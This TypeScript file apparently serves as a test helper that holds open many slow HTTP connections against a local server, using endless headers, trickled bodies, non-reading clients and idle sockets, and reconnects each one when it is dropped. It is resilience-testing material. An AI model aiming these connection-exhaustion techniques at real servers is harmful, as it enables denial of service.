import net from "node:net";

/**
 * Connections that take all they can and give nothing, as a process of its own:
 *
 *     node attack.ts PORT PATH COUNT KIND…
 *
 * Each comes back as soon as it is disconnected. The process sends `holding` when all have been open once,
 * and then answers any message with the number of open ones.
 */
const [, , port = "", path = "", count = "", ...kinds] = process.argv;

/** The attackers' machines: so many addresses. */
const ADDRESSES = 22;

const KINDS: Record<string, (socket: net.Socket) => void> = {
  /** A head that never ends. */
  headers(socket) {
    socket.write("GET / HTTP/1.1\r\nHost: a\r\n");
    trickle(socket, "X: y\r\n");
  },
  /** A body that never ends. */
  body(socket) {
    socket.write(`POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n`);
    trickle(socket, "x");
  },
  /** A reader that never reads. */
  reader(socket) {
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`);
  },
  /** An idle connection, after one request that was answered. */
  idle(socket) {
    socket.write("HEAD / HTTP/1.1\r\nHost: a\r\n\r\n");
  },
};

function trickle(socket: net.Socket, piece: string): void {
  const timer = setInterval(() => socket.write(piece), 1_000);
  socket.once("close", () => clearInterval(timer));
}

const open = new Set<net.Socket>();
let opened = 0;

function attack(index: number, again: boolean): void {
  const localAddress = `127.0.2.${1 + (index % ADDRESSES)}`;
  const socket = net.connect({ port: Number(port), host: "127.0.0.1", localAddress });
  socket.on("error", () => {});
  socket.once("connect", () => {
    open.add(socket);
    KINDS[kinds[index % kinds.length] ?? ""]?.(socket);
    if (!again && ++opened === Number(count)) process.send?.("holding");
  });
  if (kinds[index % kinds.length] !== "reader") socket.resume();
  socket.once("close", () => {
    open.delete(socket);
    setTimeout(attack, 100, index, again || opened > 0);
  });
}

for (let index = 0; index < Number(count); index++) setTimeout(attack, index / 4, index, false);
process.on("message", () => process.send?.(open.size));
process.once("disconnect", () => process.exit());
